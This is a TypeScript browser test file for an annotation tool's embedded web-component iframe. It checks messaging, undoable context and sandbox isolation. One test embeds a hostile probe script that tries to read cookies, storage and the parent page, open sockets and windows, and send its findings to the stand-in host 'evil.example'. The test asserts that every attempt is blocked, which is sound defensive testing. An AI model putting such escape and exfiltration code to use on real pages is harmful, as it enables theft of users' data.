import { expect, it, onTestFinished } from 'vitest'
import { page } from 'vitest/browser'
import { headOps } from '../../domain/annotation/commands/change-head'
import { accessIn } from '../../domain/annotation/forms/access'
import { readFormTree } from '../../domain/annotation/forms/form-tree'
import type { Native } from '../../domain/annotation/native'
import { changed } from '../../domain/annotation/ops/apply'
import { COMPONENT_PAGE } from '../../domain/component-page'
import '../../resources/theme.css'
import { createSheet } from '../../ui/form/create-sheet'
import { FormPage } from '../../ui/form/form-page'
import { render } from './render'

interface ShownFrame {
  readonly code: string
  readonly own?: Native
  readonly page?: string
  readonly isRefused?: boolean
}

/** Form of one web component over answers in memory, and its messages. */
function shown({ code, own = {}, page: address = `./${COMPONENT_PAGE}`, isRefused = false }: ShownFrame) {
  const tree = readFormTree({ components: [{ id: 'web', type: 'webComponent', label: 'Map', code, ...own }] })
  const told: unknown[] = []
  const listeners = new Set<() => void>()
  let head: Native = {}
  let send: (data: unknown) => void = () => undefined
  const setHead = (next: Native) => {
    head = next
    for (const listener of listeners) listener()
  }
  const sheet = createSheet({
    tree,
    itemData: {},
    accesses: accessIn(tree, { role: 1, status: 1 }),
    head: {
      get: () => head,
      subscribe(listener) {
        listeners.add(listener)
        return () => listeners.delete(listener)
      },
    },
    refusal: { get: () => (isRefused ? 'Read only.' : undefined), subscribe: () => () => undefined },
    setValues: (values) => setHead(changed(head, headOps(head, values))),
    openLink: () => undefined,
    frames: {
      page: new URL(address, document.baseURI).href,
      tell: (path, data) => told.push({ path, data }),
      listen(_path, hear) {
        send = hear
        return () => undefined
      },
    },
  })
  render(
    <div style={{ position: 'fixed', inset: 0, overflow: 'auto' }}>
      <FormPage sheet={sheet} />
    </div>,
  )
  return { told, send: (data: unknown) => send(data), head: () => head, setHead }
}

const script = (code: string) => `<h1>Map</h1><script>${code}</script>`
const TELL = `const tell = (data) => parent.postMessage({ action: 'topy', data }, '*');`
const frame = () => page.elementLocator(document.body).getByTitle('Map')

/** The reviewer's page has this line in its policy; the test's page has none. */
function confineFrames() {
  const policy = document.createElement('meta')
  policy.httpEquiv = 'content-security-policy'
  policy.content = "frame-src 'self'"
  document.head.append(policy)
  onTestFinished(() => policy.remove())
}

it('a web component → runs its code, exchanges messages with it, and keeps its context as an undoable step', async () => {
  const code = script(`${TELL}
    addEventListener('message', ({ data }) => { SA.setContext({ zoom: data }); tell(['set', SA_CONTEXT]) })
    tell(['began', SA_CONTEXT, IS_BUILDER, IS_CONFIG_MODE])`)
  const { told, send, head, setHead } = shown({ code, own: { context: '{"zoom":1}', height: 90_000 } })
  await expect.poll(() => told).toEqual([{ path: ['web'], data: ['began', { zoom: 1 }, false, false] }])
  expect(document.querySelector('iframe')?.getBoundingClientRect().height).toBeLessThan(1_300)

  const before = head()
  send(7)
  await expect.poll(() => head()).toEqual({ data: { web: { value: '', context: '{"zoom":7}' } } })
  await expect.poll(() => told.at(-1)).toEqual({ path: ['web'], data: ['set', { zoom: 7 }] })

  // The component's own change doesn't restart it; an undo does.
  expect(told).toHaveLength(2)
  setHead(before)
  await expect.poll(() => told.at(-1)).toEqual({ path: ['web'], data: ['began', { zoom: 1 }, false, false] })
})

it('a web component → reaches neither its surrounding page, nor storage, nor the network, and can’t navigate away [D.5]', async () => {
  confineFrames()
  const code = script(`${TELL}
    const found = []
    const attempt = async (name, work) => { try { if (await work() !== false) found.push(name) } catch {} }
    const loads = (element, target) => new Promise((done) => {
      element.onload = () => done(true); element.onerror = () => done(false); document.body.append(element); void target
    })
    ;(async () => {
      await attempt('parent', () => parent.document.title)
      await attempt('top', () => { top.location.href = 'https://evil.example/'; return false })
      await attempt('storage', () => localStorage)
      await attempt('cookie', () => document.cookie)
      await attempt('database', () => new Promise((yes, no) => {
        const asked = indexedDB.open('a'); asked.onsuccess = yes; asked.onerror = no
      }))
      await attempt('fetch', () => fetch('/${COMPONENT_PAGE}'))
      await attempt('own fetch', () => fetch(location.href))
      await attempt('beacon', () => navigator.sendBeacon('/${COMPONENT_PAGE}', 'x') && false)
      await attempt('socket', () => new Promise((yes, no) => {
        const socket = new WebSocket('ws://127.0.0.1:9/'); socket.onopen = yes; socket.onerror = no
      }))
      await attempt('picture', () => loads(Object.assign(new Image(), { src: '/favicon.ico?leak' })))
      await attempt('script', () => loads(Object.assign(document.createElement('script'), { src: '/@vite/client' })))
      await attempt('style', () => loads(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/a.css' })))
      await attempt('worker', () => new Promise((yes, no) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = yes; worker.onerror = no
      }))
      await attempt('window', () => open('https://evil.example/') !== null)
      await attempt('eval', () => new Function('return 1')())
      parent.postMessage({ type: 'reviewer:connect', version: 1 }, '*', [new MessageChannel().port1])
      tell(found)
      location.href = 'https://evil.example/?' + found
    })()`)
  const blocked: string[] = []
  const onViolation = ({ effectiveDirective, blockedURI }: SecurityPolicyViolationEvent) =>
    blocked.push(`${effectiveDirective} ${blockedURI}`)
  document.addEventListener('securitypolicyviolation', onViolation)
  onTestFinished(() => document.removeEventListener('securitypolicyviolation', onViolation))
  const { told } = shown({ code })
  await expect.poll(() => told).toEqual([{ path: ['web'], data: [] }])
  await expect.poll(() => blocked).toEqual([expect.stringMatching(/^frame-src https:\/\/evil\.example/)])
  expect(() => document.querySelector('iframe')?.contentWindow?.document).toThrow()
})

it('a web component → changes nothing on a read-only item, and reports oversized messages', async () => {
  const code = script(`${TELL}
    SA.setContext(1)
    tell('x')`)
  const quiet = shown({ code, isRefused: true })
  await expect.element(frame()).toBeVisible()
  const loud = shown({ code: script(`${TELL} for (let at = 0; at < 500; at += 1) { SA.setContext(at); tell(at) }`) })
  await expect.element(page.getByText('sends more than Loupe takes', { exact: false })).toBeVisible()
  expect(loud.told.length).toBeLessThan(60)
  // Of many contexts the last one arrives.
  await expect.poll(() => loud.head()).toEqual({ data: { web: { value: '', context: '499' } } })
  expect([quiet.told, quiet.head()]).toEqual([[], {}])
})

it('a web component that can’t run → says why: no page for it, an external address, no code', async () => {
  shown({ code: '<p>x</p>', page: '/absent/nothing.txt' })
  await expect.element(page.getByText('its page isn’t there', { exact: false })).toBeVisible()
  shown({ code: '', own: { value: 'https://components.example/map' } })
  await expect.element(page.getByText('Loupe loads no pages from outside.', { exact: false })).toBeVisible()
  await expect.element(page.getByRole('button', { name: 'Open page in the browser…' })).toBeVisible()
  shown({ code: ' ' })
  await expect.element(page.getByText('This web component has no code.')).toBeVisible()
})
